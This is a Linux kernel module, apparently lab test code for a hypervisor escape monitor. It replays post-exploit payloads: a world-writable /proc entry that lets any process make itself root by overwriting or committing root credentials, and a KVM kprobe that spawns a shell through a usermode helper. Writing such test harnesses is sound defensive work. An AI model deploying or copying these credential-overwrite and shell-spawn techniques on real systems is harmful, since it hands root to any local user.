// SPDX-License-Identifier: GPL-2.0-only
/*
 * hb_montest: test-only module that replays what a host-kernel exploit does
 * once it runs, so the lab can check that Hyper-box's escape monitor stops
 * it.  Never for production hosts.
 *
 *   /proc/hb_montest, written by a process about itself:
 *     "cred-ptr"      point its credentials at fresh root credentials
 *                     without commit_creds (the classic overwrite);
 *     "cred-inplace"  overwrite the ids and capabilities of its current
 *                     credentials in place;
 *     "commit-root"   commit_creds(prepare_kernel_cred(NULL)) from this
 *                     module (not a legitimate path).
 *   A kprobe on KVM's vcpu run ioctl: when the caller's comm starts with
 *   "hb-umh", start a usermode helper from there that would create
 *   /tmp/<comm>-ran; the result is printed.
 */
#include <linux/cred.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/umh.h>

static void hb_cred_to_root(struct cred *c)
{
	c->uid = c->euid = c->suid = c->fsuid = GLOBAL_ROOT_UID;
	c->gid = c->egid = c->sgid = c->fsgid = GLOBAL_ROOT_GID;
	c->cap_effective = c->cap_permitted = CAP_FULL_SET;
}

static ssize_t hb_write(struct file *f, const char __user *ubuf, size_t len, loff_t *off)
{
	char cmd[32] = {};
	struct cred *c;

	if (copy_from_user(cmd, ubuf, min(len, sizeof(cmd) - 1)))
		return -EFAULT;
	strim(cmd);
	if (!strcmp(cmd, "cred-ptr")) {
		c = prepare_kernel_cred(NULL);
		if (!c)
			return -ENOMEM;
		/* What an exploit's arbitrary write does: no commit_creds, no checks. */
		rcu_assign_pointer(current->real_cred, c);
		get_cred(c);
		rcu_assign_pointer(current->cred, c);
	} else if (!strcmp(cmd, "cred-inplace")) {
		hb_cred_to_root((struct cred *)current_cred());
	} else if (!strcmp(cmd, "commit-root")) {
		c = prepare_kernel_cred(NULL);
		if (!c)
			return -ENOMEM;
		pr_info("hb_montest: commit_creds(root) returned %d\n", commit_creds(c));
	} else {
		return -EINVAL;
	}
	pr_info("hb_montest: %s done for pid %d\n", cmd, task_pid_nr(current));
	return len;
}

static const struct proc_ops hb_proc_ops = { .proc_write = hb_write };

static int hb_kvm_run(struct kprobe *p, struct pt_regs *regs)
{
	static char *envp[] = { "PATH=/bin:/sbin:/usr/bin", NULL };
	struct subprocess_info *info;
	char **argv;
	int ret;

	if (strncmp(current->comm, "hb-umh", 6))
		return 0;
	argv = kcalloc(4, sizeof(*argv), GFP_ATOMIC);
	if (!argv)
		return 0;
	argv[0] = "/bin/sh";
	argv[1] = "-c";
	argv[2] = kasprintf(GFP_ATOMIC, "echo ran > /tmp/%s-ran", current->comm);
	info = argv[2] ? call_usermodehelper_setup(argv[0], argv, envp, GFP_ATOMIC, NULL, NULL, NULL) : NULL;
	if (!info)
		return 0;
	/* Atomic context (kprobe): UMH_NO_WAIT is the form that may be used here. */
	ret = call_usermodehelper_exec(info, UMH_NO_WAIT);
	pr_info("hb_montest: usermode helper from KVM_RUN of pid %d (%s) returned %d\n",
		task_pid_nr(current), current->comm, ret);
	return 0;
}

static struct kprobe hb_kp = { .symbol_name = "kvm_arch_vcpu_ioctl_run", .pre_handler = hb_kvm_run };
static bool hb_kp_ok;

static int __init hb_init(void)
{
	if (!proc_create("hb_montest", 0666, NULL, &hb_proc_ops))
		return -ENOMEM;
	hb_kp_ok = !register_kprobe(&hb_kp);
	pr_info("hb_montest: loaded (KVM_RUN probe %s)\n", hb_kp_ok ? "on" : "off: load kvm first");
	return 0;
}

static void __exit hb_exit(void)
{
	if (hb_kp_ok)
		unregister_kprobe(&hb_kp);
	remove_proc_entry("hb_montest", NULL);
}

module_init(hb_init);
module_exit(hb_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Test only: replays of host-kernel exploit payloads for Hyper-box's monitor");
